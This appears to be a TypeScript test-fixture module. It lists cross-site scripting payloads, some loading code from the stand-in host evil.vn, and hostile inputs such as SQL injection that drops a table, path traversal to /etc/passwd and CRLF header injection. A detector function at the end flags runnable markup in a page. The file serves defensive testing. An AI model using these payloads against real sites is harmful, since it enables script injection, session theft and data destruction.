/** Markup and addresses that would run if a page ever showed them as they are. */
export const scripts = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.vn/x.js></SCRIPT>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert`1`>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=javascript:alert(1)>',
  '<embed src=//evil.vn/x.swf>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<form action=javascript:alert(1)><button>x',
  '<button formaction=javascript:alert(1)>x',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<meta http-equiv=refresh content="0;url=//evil.vn">',
  '<base href=//evil.vn/>',
  '<link rel=stylesheet href=//evil.vn/x.css>',
  '<style>@import "//evil.vn/x.css"</style>',
  '" onmouseover="alert(1)" x="',
  "' onmouseover='alert(1)' x='",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '`-alert(1)-`',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
] as const

/** Values that break programs which trust what they are sent. */
export const hostile = [
  "' or 1=1--",
  "'); drop table dossiers.dossier; --",
  '%00%27',
  'a\0b',
  '\ud800',
  'x'.repeat(10_000),
  'ế'.normalize('NFD').repeat(400),
  '\u202egnp.exe',
  '😀𝕏',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  '-0',
  '-1',
  '1e400',
  '99999999999999999999999999',
  'NaN',
  '0x10',
  '2026-02-30',
  '31/02/2026',
  '99/99/9999',
  '+275760-09-13T00:00:00.000Z',
  '00000000-0000-0000-0000-000000000000',
  'eyJhIjoxfQ',
  '[]',
  '{"a":1}',
  '\r\nSet-Cookie: a=b',
  '\ufeff',
  '%',
  ' ',
  '\\',
  scriptOf(0),
  scriptOf(31),
]

function scriptOf(index: number): string {
  return scripts[index] ?? ''
}

const linkToCode = /\b(?:href|src|action|formaction|data)="\s*(?:javascript|vbscript|data:text)/i
const inlineCode = /<script(?![^>]*\ssrc="\/)[^>]*>|<(?:iframe|object|embed|base|svg[^>]*\sonload)/i

/** The first of our texts that stands in a page so that a browser would run or load it, or ''. */
export function runsIn(page: string): string {
  const raw = scripts.find((one) => /[<"]/.test(one) && page.includes(one))
  return raw ?? linkToCode.exec(page)?.[0] ?? inlineCode.exec(page)?.[0] ?? ''
}
